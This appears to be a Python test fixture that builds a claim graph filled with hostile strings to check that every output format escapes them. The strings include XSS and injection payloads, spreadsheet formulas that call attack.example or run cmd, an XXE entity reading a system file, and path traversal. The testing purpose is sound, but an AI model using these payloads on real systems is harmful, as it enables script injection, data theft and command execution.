"""What strangers may write: attacks on whatever shows, prints, stores or writes them, and a graph that is full of them.

Every test of hostile text takes these, so that an attack that is added here is tried on every way out.
"""

from datetime import date
from urllib.parse import quote as escape

from communique.article import Article
from communique.claim import (
    Actor,
    Claim,
    Evidence,
    Kind,
    Modality,
    Polarity,
    Quad,
    Relation,
    Span,
    Statement,
    StatementKind,
)
from communique.claim_graph import ClaimGraph
from communique.namespaces import ACTOR, REL

ATTACKS = (
    "</script><script>window.attacked = 1</script>",
    "<!--<script>window.attacked = 2",
    "<img src=x onerror='window.attacked = 3'>",
    '" onmouseover="window.attacked = 4" autofocus onfocus="window.attacked = 5',
    "<svg/onload=window.attacked=6>",
    "{{policy}} {{script}} ${window.attacked = 7} {% raw %}",
    "javascript:window.attacked=8//",
    "]]></text><script>window.attacked = 9</script><![CDATA[",
    "</title></style><base href=https://attack.example/><link rel=stylesheet href=https://attack.example/a.css>",
    "\u2028window.attacked = 10\u2029",
    "\u202egnitca si siht\u202c \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "null\x00 bell\x07 escape\x1b[31m lone\ud800 wide\U0001f600",
    "name " * 120,
    "x" * 3000,
    '=HYPERLINK("https://attack.example/?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n-2+3",
    '"""@en . <https://attack.example/> a <https://attack.example/Claim> . """',
    "> } ; DROP ALL ; INSERT DATA { <a:a> <a:b> <a:c",
    '"}],"claims":[],"x":[{"y":"\\\\',
    "&xxe; <!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/hostname'>]> <!--",
    "../../../../etc/passwd",
    "title\x1b]0;attacked\x07 link\x1b]8;;https://attack.example/\x1b\\ csi\x9b2J\x1b[2J\x1b[1A back\b\b\b del\x7f",
    "__proto__",
    "constructor",
)


# What RDF, and so every format, can hold: characters, not halves of them.
WRITABLE = tuple(attack for attack in ATTACKS if "\ud800" not in attack)


def hostile(attacks: tuple[str, ...] = ATTACKS, *, iris: bool = False) -> ClaimGraph:
    """Each attack as label, relation, quotation, title, publisher, address, identifier, time and text.

    The IRIs hold it too: as it is, as only a graph made by hand can, or with *iris* escaped, as a reading makes them.
    """
    statements, claims, articles = [], [], []
    for number, attack in enumerate(attacks):
        tail = escape(attack, safe="", errors="replace") if iris else attack
        same = f"https://attack.example/{tail}" if iris else attack
        subject = Actor(f"{ACTOR}{number}#{tail}", attack, Kind.STATE, of=attack, sector=attack, same_as=same)
        object_ = Actor(f"https://attack.example/{tail}", f"{attack} {number}", list(Kind)[number % 9], new=True)
        text = f"{attack} 😀 {attack} hits {attack}.\n\n{attack}"
        article = Article(attack, text, title=attack, publisher=attack, url=attack, published=date(2025, 1, 1))
        end = len(article.text)
        quote = Span(0, end - len(attack) - 2)
        statement = Statement(
            f"s{attack}", attack, StatementKind.SAYS, subject, Span(0, 5), None, (quote,), said_on=attack
        )
        evidence = Evidence(attack, *quote, quote.of(text), Span(0, 3), Span(4, 9), Span(9, 12))
        relation = Relation(f"{REL}{tail}", attack, list(Quad)[number % 5], symmetric=number % 3 == 0)
        claims += [
            Claim(
                id=f"{attack}{polarity}",
                subject=subject,
                relation=relation,
                object=object_,
                evidence=evidence,
                speakers=(subject,),
                speaker_spans=(Span(0, 5),),
                polarity=polarity,
                modality=list(Modality)[number % 5],
                time=attack,
                statement=statement.id,
                matched=attack,
                reasons=(attack,),
            )
            for polarity in Polarity
        ]
        statements.append(statement)
        articles.append(article)
    return ClaimGraph(tuple(articles), tuple(statements), tuple(claims))
